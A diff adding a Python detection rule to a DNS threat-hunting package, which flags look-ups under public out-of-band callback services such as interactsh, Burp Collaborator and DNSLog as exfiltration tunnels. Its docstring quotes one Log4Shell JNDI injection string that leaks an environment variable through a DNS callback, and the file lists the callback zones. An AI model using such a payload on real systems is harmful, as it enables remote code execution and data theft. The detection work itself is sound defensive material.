@@ -1,0 +1,83 @@
+"""Look-ups under public out-of-band interaction (OAST) services: interactsh, Burp Collaborator,
+DNSLog, CEYE, AcuMonitor.
+
+Why a rule of its own: these services hand every name queried under a subdomain to whoever holds
+that subdomain. That is how blind injection is proven and exploited (a Log4Shell string such as
+``${jndi:ldap://${env:USER}.abc123.dnslog.cn/a}`` makes the victim resolve
+``root.abc123.dnslog.cn``), and a ready-made DNS exfiltration channel that needs no server of the
+attacker's own. Scored by shape, ``root.abc123.dnslog.cn`` reads as an ordinary name: its labels
+are short and word-like. A single look-up is enough here, so the name becomes a ``tunnel`` with a
+reason that names the service, whatever its shape or its batch. A company's own penetration tests
+use the same services; the reason says what it is, and the hunter knows whether a test was running.
+"""
+
+from __future__ import annotations
+
+import functools
+
+import numpy as np
+
+from hunt_assets.analytics.dns.names import ParsedNames, hash_name
+
+# the public servers' zones (interactsh's default list, PortSwigger's public Collaborator, and the
+# DNS-log services Chinese-language exploit kits default to); a self-hosted server is a domain like
+# any other and is judged by the tunnel rules
+ZONES = {
+    "oast.pro": "interactsh",
+    "oast.live": "interactsh",
+    "oast.site": "interactsh",
+    "oast.online": "interactsh",
+    "oast.fun": "interactsh",
+    "oast.me": "interactsh",
+    "interact.sh": "interactsh",
+    "burpcollaborator.net": "Burp Collaborator",
+    "oastify.com": "Burp Collaborator",
+    "dnslog.cn": "DNSLog",
+    "ceye.io": "CEYE",
+    "bxss.me": "Acunetix AcuMonitor",
+}
+SERVICES = tuple(sorted(set(ZONES.values())))
+# the services' own web front ends: a hunter's or tester's browser, not a callback
+FRONT_LABELS = ("www", "api", "app")
+REASON = (
+    "out-of-band interaction service ({service}): every name looked up under it is handed to whoever "
+    "holds the subdomain (blind-injection callbacks such as Log4Shell or SSRF, or DNS exfiltration)"
+)
+
+
+@functools.lru_cache(maxsize=1)
+def _tables() -> tuple[np.ndarray, np.ndarray]:
+    """Sorted zone hashes and the service index of each."""
+    hashes = np.array([hash_name(z) for z in ZONES], dtype=np.uint64)
+    service = np.array([SERVICES.index(s) for s in ZONES.values()], dtype=np.int8)
+    order = np.argsort(hashes)
+    return hashes[order], service[order]
+
+
+def oast_services(p: ParsedNames, reg_hash: np.ndarray) -> np.ndarray:
+    """Per row: an index into ``SERVICES``, or -1.
+
+    ``reg_hash``: each row's registered-domain hash (as the scorer computes it). A row counts when
+    its registered domain is one of ``ZONES`` and it has a subdomain, unless the subdomain is just
+    one of the services' front-end labels (``www.dnslog.cn``). Whole-batch NumPy.
+    """
+    out = np.full(p.n, -1, dtype=np.int8)
+    if p.n == 0:
+        return out
+    zones, service = _tables()
+    pos = np.clip(np.searchsorted(zones, reg_hash), 0, zones.size - 1)
+    hit = (zones[pos] == reg_hash) & (p.reg_label > p.row_first_label)
+    rows = np.flatnonzero(hit)
+    if rows.size == 0:
+        return out
+    # one label in front of the zone: is it a front end? (few rows: a Python look at each)
+    one_sub = p.reg_label[rows] - p.row_first_label[rows] == 1
+    first = p.row_first_label[rows]
+    start, end = p.label_start[first], p.label_end[first]
+    front = np.zeros(rows.size, dtype=bool)
+    for i in np.flatnonzero(one_sub):
+        label = p.lower[start[i] : end[i]].tobytes().decode("ascii", "replace")
+        front[i] = label in FRONT_LABELS
+    keep = rows[~front]
+    out[keep] = service[pos[keep]]
+    return out
